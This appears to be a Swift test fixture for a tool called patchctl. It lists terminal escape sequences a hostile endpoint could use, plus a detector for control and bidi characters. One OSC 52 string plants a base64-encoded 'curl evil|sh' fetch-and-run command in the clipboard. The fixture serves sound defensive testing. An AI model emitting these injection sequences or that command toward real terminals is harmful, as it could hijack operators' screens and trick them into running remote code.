import Foundation

/// What a hostile endpoint writes to reach an operator's terminal, shared by the tests that push
/// it through reports, history and the binary.
public enum HostileText {
    /// OSC 0: sets the window title.
    public static let title = "\u{1B}]0;pwned\u{07}"
    /// Clears the screen.
    public static let clear = "\u{1B}[2J"
    /// OSC 52: writes the clipboard.
    public static let clipboard = "\u{1B}]52;c;Y3VybCBldmlsfHNo\u{07}"
    /// Hides what follows.
    public static let conceal = "\u{1B}[8m"
    /// The 8-bit CSI (C1).
    public static let csi8bit = "\u{9B}31m"
    public static let override = "\u{202E}"
    public static let isolate = "\u{2066}"
    /// The private-use characters patchctl's tables mark colour with (red, then reset): from an
    /// endpoint they must be shown, never turned into colour.
    public static let colourMarkers = "\u{E002}\u{E000}"
    /// patchctl's own colour sequences (`--color always`), the only escapes it may write.
    public static let ownStyles = ["\u{1B}[0m", "\u{1B}[1m", "\u{1B}[31m", "\u{1B}[32m", "\u{1B}[33m", "\u{1B}[1;31m", "\u{1B}[2m"]

    /// `text` without patchctl's own colour sequences.
    public static func withoutOwnStyles(_ text: String) -> String {
        ownStyles.reduce(text) { $0.replacingOccurrences(of: $1, with: "") }
    }
    /// Every C0 but LF and NUL, DEL and every C1, in one value.
    public static let allControls = String(String.UnicodeScalarView((0x01...0x1F).filter { $0 != 0x0A }.compactMap(Unicode.Scalar.init)))
        + "\u{7F}" + String(String.UnicodeScalarView((0x80...0x9F).compactMap(Unicode.Scalar.init)))

    /// Scalars a terminal would act on: C0 except the layout's newline, DEL, C1, bidi controls.
    public static func offending(_ text: String) -> [String] {
        text.unicodeScalars.filter { scalar in
            switch scalar.value {
            case 0x0A: return false
            case 0x00...0x1F, 0x7F...0x9F, 0x202A...0x202E, 0x2066...0x2069: return true
            default: return false
            }
        }.map { String(format: "U+%04X", $0.value) }
    }
}
